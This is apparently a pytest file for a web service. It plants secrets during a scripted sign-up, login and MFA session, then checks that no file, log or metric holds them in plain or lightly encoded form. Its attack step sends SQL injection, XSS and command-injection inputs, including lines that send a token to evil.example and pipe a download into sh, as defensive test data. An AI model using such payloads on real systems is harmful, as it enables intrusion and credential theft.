"""Secrets are planted by a story over HTTP, then every byte that the service left behind is searched for them."""

from __future__ import annotations

import base64
import json
import secrets
import stat
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import httpx
import pyotp
import pytest

from gatewright.web import read_credentials
from tests.support.outbox import message_for
from tests.support.server import DemoServer

EMAIL = "owner@planted.example.com"
MAILBOX_AND_CREDENTIALS = ("outbox.jsonl", "demo.env")
"""The demo's own places for secrets: the mailbox that represents email, and the file to sign in with."""
SHORTEST = 8
"""Shorter secrets (six-digit codes) would be found by chance."""
TAIL = 16


class Planted:
    """The secrets of the story, by what they are."""

    def __init__(self) -> None:
        self.values: dict[str, bytes] = {}

    def add(self, name: str, value: str | bytes) -> str:
        raw = value.encode() if isinstance(value, str) else value
        assert len(raw) >= SHORTEST, name
        self.values[name] = raw
        return raw.decode("latin-1")

    def found_in(self, content: bytes) -> list[str]:
        """What is in ``content`` in plaintext or in an encoding that anyone can undo."""
        return [f"{name} ({form})" for name, form, needle in self._needles() if needle in content]

    def _needles(self) -> Iterator[tuple[str, str, bytes]]:
        for name, value in self.values.items():
            for form, needle in forms(value):
                yield name, form, needle
            if len(value) >= 2 * TAIL:
                yield name, f"its last {TAIL} bytes", value[-TAIL:]


def forms(value: bytes) -> Iterator[tuple[str, bytes]]:
    """The ways to write a secret without hiding it."""
    yield "as it is", value
    yield "hex", value.hex().encode()
    yield "HEX", value.hex().upper().encode()
    for offset in range(3):  # Base64 of a longer text that has it inside, at each of the three alignments
        shifted = base64.b64encode(b"\0" * offset + value)
        inner = shifted[(0, 2, 3)[offset] : len(shifted) - (0, 3, 2)[(len(value) + offset) % 3]]
        yield f"Base64 at {offset}", inner
        yield f"Base64 for URLs at {offset}", inner.replace(b"+", b"-").replace(b"/", b"_")
    text = value.decode("latin-1")
    yield "URL", quote(text, safe="").encode()
    yield "form", quote_plus(text).encode()
    yield "JSON", json.dumps(text)[1:-1].encode()
    yield "UTF-16", text.encode("utf-16-le")


class Story:
    """What a manufacturer does in its first hour, and an attacker beside it."""

    def __init__(self, server: DemoServer, planted: Planted) -> None:
        self._server = server
        self._http = httpx.Client(base_url=server.url, timeout=60)
        self._planted = planted
        self.token: str | None = None
        self.refusals: list[tuple[str, bytes]] = []

    def call(self, status: int, method: str, path: str, body: Any = None, **options: Any) -> dict[str, Any]:
        """One call that must end so (400 represents all refusals); what a refusal says is kept to be searched."""
        headers = {} if self.token is None else {"authorization": f"Bearer {self.token}"}
        headers.update(options.pop("headers", {}))
        answer = self._http.request(method, path, json=body, headers=headers, **options)
        ended = 400 if status == 400 and answer.is_client_error else answer.status_code
        assert ended == status, f"{method} {path}: {answer.status_code} {answer.text}"
        if status >= 400:
            self.refusals.append((f"answer of {method} {path}", str(answer.headers).encode() + answer.content))
        return dict(answer.json()) if answer.content else {}

    def run(self) -> None:
        self._join()
        self._mistakes()
        self._second_factor()
        self._upgrade()
        self._keys()
        self._attacks()
        self._reset()
        self.call(200, "GET", "/v1/profile")
        self.token = None
        self.metrics = self._http.get("/metrics").content
        self._http.close()

    def _join(self) -> None:
        plant = self._planted.add
        self.password = plant("password", "walnut & ferry %7 lantern")
        business = {
            "business_license": plant("licence", "QX-2931-77401"),
            "tax_id": plant("tax id", "46-7193528"),
            "phone": plant("phone", "+1 212 736 5991"),
            "bank_account": plant("bank account", "DE89370400440532013000"),
            "website": plant("website", "https://www.planted-walnut-ferry.example.com"),
            "address": {
                "street": plant("street", "4711 Walnut Ferry Boulevard"),
                **{"city": "Albany", "state": "NY", "zip": "12207", "country": "US"},
            },
        }
        for name, digits in (("tax id", "467193528"), ("phone", "+12127365991"), ("phone", "2127365991")):
            plant(f"{name} as {digits}", digits)
        body = {"email": EMAIL, "password": self.password, "company_name": "Planted", **business}
        self.call(202, "POST", "/v1/manufacturers", body)
        token = plant("verification token", message_for(self._server.data, EMAIL)["token"])
        self.call(201, "POST", "/v1/manufacturers/verify", {"token": token})
        self.call(400, "POST", "/v1/manufacturers/verify", {"token": token})
        self._sign_in()

    def _sign_in(self, **more: Any) -> dict[str, Any]:
        self.token = None
        answer = self.call(200, "POST", "/v1/auth/login", {"email": EMAIL, "password": self.password, **more})
        if answer["status"] == "authenticated":
            self._received(answer)
        return answer

    def _received(self, answer: dict[str, Any]) -> None:
        number = len(self._planted.values)
        self.token = self._planted.add(f"access token {number}", answer["access_token"])
        self.refresh = self._planted.add(f"refresh token {number}", answer["refresh_token"])

    def _mistakes(self) -> None:
        """Passwords where they are wrong, where they are of the wrong type, and where no field of that name is."""
        wrong = self._planted.add("wrong password", "harbour ? violet 88 gravel")
        token, self.token = self.token, None
        for body in (
            {"email": EMAIL, "password": wrong},
            {"email": "nobody@planted.example.com", "password": wrong},
            {"email": wrong, "password": wrong},
            {"email": EMAIL, "password": [wrong]},
            {"email": EMAIL, "passwort": wrong},
            {"email": EMAIL, "password": wrong * 400},
        ):
            self.call(400, "POST", "/v1/auth/login", body)
        broken = b'{"email": "x@example.com", "password": "' + wrong.encode() + b"\x00"
        self.call(400, "POST", "/v1/auth/login", content=broken, headers={"content-type": "application/json"})
        forged = self._planted.add("forged token", f"eyJhbGciOiJIUzI1NiJ9.e30.{secrets.token_urlsafe(32)}")
        self.call(400, "GET", "/v1/me", headers={"authorization": f"Bearer {forged}"})
        self.call(400, "GET", "/v1/me", headers={"authorization": f"Basic {base64.b64encode(wrong.encode()).decode()}"})
        self.call(400, "GET", "/v1/me", headers={"x-api-key": self._planted.add("forged key", "gw_0000_" + "k" * 40)})
        self.call(400, "POST", "/v1/auth/refresh", {"refresh_token": self._planted.add("forged refresh", "r" * 64)})
        self.token = token
        changed = {
            "current_password": wrong,
            "new_password": self._planted.add("new password", "plum ~ orchard 5150 %"),
        }
        self.call(400, "POST", "/v1/auth/password/change", changed)

    def _second_factor(self) -> None:
        enrolment = self.call(200, "POST", "/v1/mfa/totp")
        secret = self._planted.add("TOTP secret", enrolment["secret"])
        self._planted.add("TOTP secret in bytes", base64.b32decode(secret))
        self._codes(enrolment["backup_codes"])
        self.call(400, "POST", "/v1/mfa/totp/confirm", {"code": "000000"})
        self.call(200, "POST", "/v1/mfa/totp/confirm", {"code": pyotp.TOTP(secret).now()})
        self.call(202, "POST", "/v1/mfa/confirmations")
        mail = message_for(self._server.data, EMAIL, kind="factor_confirmation")
        token = self._planted.add("confirmation token", mail["token"])
        self.call(204, "POST", "/v1/mfa/confirmations/redeem", {"token": token})
        challenge = self._sign_in()
        body = {
            "challenge_id": challenge["challenge_id"],
            "code": enrolment["backup_codes"][0],
            "remember_device": True,
        }
        self.call(400, "POST", "/v1/auth/mfa", {**body, "code": self._planted.add("wrong code", "qq7zzk99")})
        answer = self.call(200, "POST", "/v1/auth/mfa", body)
        self._received(answer)
        self._http.headers["x-device-token"] = self._planted.add("device token", answer["device_token"])
        self._codes(self.call(200, "POST", "/v1/mfa/backup-codes")["backup_codes"])
        used = self.refresh
        self._received(self.call(200, "POST", "/v1/auth/refresh", {"refresh_token": used}))

    def _codes(self, codes: list[str]) -> None:
        for code in codes:
            self._planted.add(f"backup code {code}", code)
        self.backup = codes

    def _upgrade(self) -> None:
        """The platform's admin moves the company to a tier that has API keys."""
        company = self.call(200, "GET", "/v1/me")["manufacturer_id"]
        token, self.token = self.token, None
        admin = read_credentials(self._server.data / "demo.env")
        login = {"email": admin.admin_email, "password": admin.admin_password}
        code = pyotp.TOTP(admin.admin_totp_secret).now()
        answer = self.call(200, "POST", "/v1/auth/login", {**login, "mfa_code": code})
        self.token = answer["access_token"]
        body = {"tier": "professional", "reason": "signed contract"}
        self.call(200, "PUT", f"/v1/admin/manufacturers/{company}/tier", body)
        self.token = token

    def _keys(self) -> None:
        made = self.call(201, "POST", "/v1/api-keys", {"name": "server", "permissions": ["upload_products"]})
        self.key = self._planted.add("API key", made["key"])
        self.call(201, "POST", "/demo/products", {"name": "Oak chair"}, headers={"authorization": f"Bearer {self.key}"})

    def _attacks(self) -> None:
        """Attacks that carry secrets: the evidence is kept, the secrets are not."""
        card = self._planted.add("token in an attack", "sk_live_" + secrets.token_hex(20))
        for name in (
            f"' OR '1'='1' -- {self.key}",
            f"{self.token}' UNION SELECT email, password FROM accounts --",
            f"<script>fetch('//evil.example/?token={card}')</script>",
            f"; curl -H 'Authorization: Bearer {card}' http://evil.example | sh",
            f"password={self.password.split()[0]}-{card}; cat /etc/passwd",
        ):
            self.call(403, "POST", "/demo/products", {"name": name})
        self.call(403, "GET", "/demo/products", params={"after": f"<script>alert('{self.key}')</script>"})
        self.call(
            403, "GET", "/demo/products", headers={"referer": f"https://x.example/?token={card}&q=<script>alert(1)"}
        )
        self.call(403, "POST", "/v1/auth/login", {"email": "' OR '1'='1' --", "password": self.password})

    def _reset(self) -> None:
        self.token = None
        self.call(202, "POST", "/v1/auth/password/forgot", {"email": EMAIL})
        token = self._planted.add("reset token", message_for(self._server.data, EMAIL, kind="reset_password")["token"])
        self.call(400, "POST", "/v1/auth/password/reset", {"token": "f" * 43, "new_password": self.password})
        body = {"token": token, "new_password": self._planted.add("second password", "cobalt ^ meadow 61 kettle")}
        self.call(400, "POST", "/v1/auth/password/reset", body)
        self.call(204, "POST", "/v1/auth/password/reset", {**body, "mfa_code": self.backup[1]})
        self.password = body["new_password"]
        self._received(self.call(200, "POST", "/v1/auth/login", {**self._login(), "mfa_code": self.backup[2]}))

    def _login(self) -> dict[str, str]:
        return {"email": EMAIL, "password": self.password}


def left_behind(data: Path) -> Iterator[tuple[str, bytes]]:
    """Every file of the installation but the demo's own places for secrets."""
    for path in sorted(data.rglob("*")):
        if path.is_file() and path.name not in MAILBOX_AND_CREDENTIALS:
            yield str(path.relative_to(data)), path.read_bytes()


@pytest.mark.slow
def test_no_planted_secret_stands_anywhere_in_clear(tmp_path: Path) -> None:
    planted = Planted()
    roots = {
        "GATEWRIGHT_SECRET_KEY": planted.add("secret key", secrets.token_hex(32)),
        "GATEWRIGHT_ENCRYPTION_KEY": planted.add("encryption key", secrets.token_hex(32)),
    }
    server = DemoServer(tmp_path / "data", environment={**roots, "GATEWRIGHT_LOG_LEVEL": "debug"}).start()
    try:
        story = Story(server, planted)
        story.run()
        time.sleep(0.05)
        running = [(f"{name}, while running", content) for name, content in left_behind(server.data)]
        titles = [("process title", Path(f"/proc/{server.pid}/cmdline").read_bytes())]
    finally:
        server.stop()
    stopped = list(left_behind(server.data))
    places = [
        *running,
        *stopped,
        *titles,
        *story.refusals,
        ("metrics", story.metrics),
        ("log", server.log.read_bytes()),
    ]
    assert {"gatewright.db", "demo.db"} <= {name for name, _ in stopped}
    assert any(name.startswith("gatewright.db-wal") and content for name, content in running)
    leaks = {name: found for name, content in places if (found := planted.found_in(content))}
    assert leaks == {}
    for name in MAILBOX_AND_CREDENTIALS:
        assert stat.S_IMODE((server.data / name).stat().st_mode) == 0o600, name


def test_the_search_finds_what_is_there() -> None:
    planted = Planted()
    secret = planted.add("secret", "walnut & ferry %7 lantern \x7f")
    for number, text in enumerate(
        (secret, secret.encode().hex(), quote(secret), quote_plus(secret), json.dumps(secret))
    ):
        assert planted.found_in(b"before " + text.encode() + b" after"), number
    for before in ("", "a", "ab", "abc"):
        for after in ("", "a", "ab"):
            for encode in (base64.b64encode, base64.urlsafe_b64encode):
                assert planted.found_in(encode(f"{before}{secret}{after}".encode())), (before, after)
    assert planted.found_in(b"nothing of the kind") == []
